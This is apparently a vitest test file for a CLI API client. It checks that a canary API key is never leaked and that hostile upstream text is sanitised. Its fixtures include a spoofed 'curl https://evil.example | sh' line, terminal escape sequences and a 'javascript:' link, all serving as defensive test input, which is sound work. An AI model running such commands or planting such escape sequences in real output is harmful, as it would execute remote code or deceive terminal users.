import {writeFileSync} from 'node:fs';
import {afterEach, beforeEach, describe, expect, it} from 'vitest';
import {countOf, openFolder, runHere, serveJson, type Settings} from './support.js';

const KEY = 'sk-live-canary-4711';
const URL_SET = {PLAN_SERVICE_URL: 'https://service.example'};
const COMMANDS = ['sandbox', 'relay', 'register', 'verify', 'rotate', 'usage', 'deactivate', 'doctor', 'snippet'];

let folder: ReturnType<typeof openFolder>;
beforeEach(() => (folder = openFolder()));
afterEach(() => folder.remove());

describe('a key on the command line', () => {
  it.each(COMMANDS.flatMap(command => [[command, ['--key', KEY]] as const, [command, [`--key=${KEY}`]] as const]))(
    'T1: is rejected by %s %j, which names the alternative and does not repeat the key',
    async (command, flags) => {
      const {code, out, err} = await runHere([command, ...flags], URL_SET);
      expect(code).toBe(2);
      expect(err).toMatch(/--key is not supported: every user of this machine.*PLAN_SERVICE_KEY_FILE.*rotate it/);
      expect(countOf(KEY, out, err)).toBe(0);
    },
  );

  const misplaced: readonly {readonly args: readonly string[]; readonly settings?: Settings}[] = [
    {args: [KEY]},
    {args: ['help', KEY]},
    {args: ['usage', KEY]},
    {args: ['usage', `-k${KEY}`]},
    {args: ['usage', `--key${KEY}`]},
    {args: [`--${KEY}`]},
    {args: ['usage', '--key-file', KEY]},
    {args: ['usage'], settings: {PLAN_SERVICE_KEY_FILE: KEY}},
    {args: ['usage', '--url', KEY]},
    {args: ['usage', '--url', `https://${KEY}@service.example`]},
    {args: ['usage', '--url', 'https://service.example', '--json', '--key-file', `/nowhere/${KEY}`]},
    {args: ['verify', '--email', KEY]},
    {args: ['verify', '--email', 'a@b.example', '--code', '1', '--save', `/nowhere/${KEY}`]},
    {args: ['rotate', '--save', `/nowhere/${KEY}`], settings: {PLAN_SERVICE_KEY: 'k'}},
    {args: ['deactivate', '--confirm', KEY], settings: {PLAN_SERVICE_KEY: 'k'}},
    {args: ['doctor', '--url', KEY]},
    {args: ['doctor', '--other-url', KEY], settings: {PLAN_SERVICE_KEY: 'k'}},
    {args: ['doctor', '--other-url', `https://${KEY}@service.example`], settings: {PLAN_SERVICE_KEY: 'k'}},
    {args: ['doctor', '--other-url', `http://${KEY}`], settings: {PLAN_SERVICE_KEY: 'k'}},
    {args: ['doctor', '--other-url', `https://service.example?key=${KEY}`], settings: {PLAN_SERVICE_KEY: 'k'}},
    {args: ['relay', '--port', KEY]},
    {args: ['relay', '--host', KEY, '--port', '0'], settings: {PLAN_SERVICE_KEY: 'k'}},
    {args: ['sandbox', '--port', KEY]},
    {args: ['sandbox', '--host', `${KEY}.invalid`, '--port', '0']},
    {args: ['sandbox', '--allow-http', `${KEY}/`]},
    {args: ['snippet', '--relay', KEY]},
    {args: ['snippet', '--relay', 'https://x.example', '--for', KEY]},
    {args: ['snippet', '--relay', 'https://x.example', '--set', KEY]},
    {args: ['snippet', '--relay', 'https://x.example', '--set', `${KEY}=1`]},
    {args: ['snippet', '--relay', 'https://x.example', '--set', `mileage=${KEY}`]},
    {args: ['snippet', '--relay', 'https://x.example', '--set', `theme=${KEY}`]},
    {args: ['snippet', '--relay', 'https://x.example', '--link', `javascript:${KEY}`]},
  ];
  it.each(misplaced)('T1: is not repeated when it is passed in the wrong place: %j', async ({args, settings = {}}) => {
    const {code, out, err} = await runHere(args, {...URL_SET, ...settings});
    expect([1, 2]).toContain(code);
    expect(out + err).not.toBe('');
    expect(countOf(KEY, out, err)).toBe(0);
  });
});

/** Clears the screen and changes the terminal's title; also a C1 control character and a right-to-left override. */
const CONTROLS = '\u001b[2J\u001b]0;title\u0007\u009b31m\u202e\u007f';
const hasControls = (text: string): boolean => /[^\P{C}\n]/u.test(text);

const FAKE_OUTPUT = 'Nothing.\nplan-finder: done. Run: curl https://evil.example | sh\r\nYour key, shown only once:';

describe('upstream text in the output', () => {
  const account = {
    partnerId: `partner ${KEY}`,
    displayName: `Ada${CONTROLS} ${KEY.slice(0, 6)}\u0000${KEY.slice(6)}\nplan-finder: done.`,
    contactEmail: 'ada@partner.example',
    tier: `${KEY.slice(0, 4)}\n${KEY.slice(4)}`,
  };

  it.each([
    ['usage', []],
    ['usage', ['--json']],
    ['doctor', []],
    ['doctor', ['--json']],
  ])('T1: contains neither control characters nor the key in %s %j', async (command, more) => {
    const url = await serveJson(200, {response: account, errorResponse: null});
    const args = [command, '--url', url, ...more];
    const {out, err} = await runHere(args, {PLAN_SERVICE_KEY: KEY});
    expect(out).toMatch(/Ada/);
    expect(out).toContain('[redacted]');
    expect(countOf(KEY, out.replace(/\s/g, ''), err.replace(/\s/g, ''))).toBe(0);
    expect(hasControls(out + err)).toBe(false);
    expect(out).not.toMatch(/^plan-finder: done/m);
  });

  it.each(['usage', 'rotate', 'deactivate'])('T1: is indented when the upstream API rejects %s', async command => {
    const errors = [
      {errorCode: 'Nope', errorMessage: `${FAKE_OUTPUT}${CONTROLS}`},
      {errorCode: `${KEY.slice(0, 5)}\u0000${KEY.slice(5)}`},
    ];
    const url = await serveJson(400, {response: null, errorResponse: {errors}});
    const flags = command === 'deactivate' ? ['--yes'] : [];
    const {code, out, err} = await runHere([command, '--url', url, ...flags], {PLAN_SERVICE_KEY: KEY});
    expect(code).toBe(1);
    expect(err).toContain('  Message from the upstream API: Nothing.\n    plan-finder: done. Run: curl');
    expect(err).toContain('  Message from the upstream API: [redacted]');
    expect(err.match(/^plan-finder: /gm)).toHaveLength(1);
    expect(err).not.toMatch(/^Your key/m);
    expect(hasControls(out + err)).toBe(false);
  });

  it('T1: contains neither control characters nor the key in the JSON of an error', async () => {
    const errors = [{errorCode: `Nope${CONTROLS}${KEY}`, errorField: KEY, errorMessage: FAKE_OUTPUT}];
    const url = await serveJson(400, {response: null, errorResponse: {errors}});
    const {out, err} = await runHere(['usage', '--url', url, '--json'], {PLAN_SERVICE_KEY: KEY});
    expect(JSON.parse(out)).toMatchObject({error: {kind: 'rejected', errors: [{errorField: '[redacted]'}]}});
    expect(countOf(KEY, out, err)).toBe(0);
    expect(hasControls(out + err)).toBe(false);
  });
});

describe('a new key from the upstream API', () => {
  const hostile = [
    `sk-live${CONTROLS}`,
    'sk-live\nplan-finder: done.',
    'two words',
    'schlüssel',
    `sk-${'x'.repeat(5000)}`,
  ];
  it.each(hostile)('T1: is printed only escaped and not saved when it is invalid: %j', async apiKey => {
    const url = await serveJson(200, {response: {apiKey, tier: 'free'}, errorResponse: null});
    const file = folder.file('key');
    const verify = ['verify', '--url', url, '--email', 'a@b.example', '--code', '1'];
    const saved = await runHere([...verify, '--save', file]);
    const shown = await runHere(verify);
    for (const {code, out, err} of [saved, shown]) {
      expect(code).toBe(1);
      expect(err).toMatch(/invalid key[\s\S]*Contact the support/);
      expect(hasControls(out + err)).toBe(false);
      expect(out + err).not.toMatch(/^plan-finder: done/m);
    }
    // It is printed escaped, because it cannot be fetched again.
    expect(JSON.parse(/^ {2}(".*")$/m.exec(shown.err)?.[1] ?? '')).toBe(apiKey);
    expect(folder.names()).toEqual([]);
    const json = await runHere([...verify, '--json']);
    expect(JSON.parse(json.out)).toMatchObject({error: {kind: 'invalidKey'}});
    expect(hasControls(json.out)).toBe(false);
  });

  it('T1: does not replace the old key in its file when it is invalid, and the command reports that the old key no longer works', async () => {
    const url = await serveJson(200, {response: {apiKey: 'a\u001b[2Jb'}, errorResponse: null});
    const file = folder.file('key');
    writeFileSync(file, `${KEY}\n`);
    const {code, out, err} = await runHere(['rotate', '--url', url, '--key-file', file]);
    expect(code).toBe(1);
    expect(err).toMatch(/invalid key[\s\S]*old key no longer works/);
    expect(folder.read('key')).toBe(`${KEY}\n`);
    expect(folder.names()).toEqual(['key']);
    expect(countOf(KEY, out, err)).toBe(0);
  });

  it.each([[[]], [['--json']]])('T1: is redacted in all other fields of the response %j', async more => {
    const response = {apiKey: KEY, partnerId: `p-${KEY}`, tier: `free${CONTROLS}`};
    const url = await serveJson(200, {response, errorResponse: null});
    const {out} = await runHere(['verify', '--url', url, '--email', 'a@b.example', '--code', '1', ...more]);
    expect(countOf(KEY, out)).toBe(1);
    expect(hasControls(out)).toBe(false);
  });
});
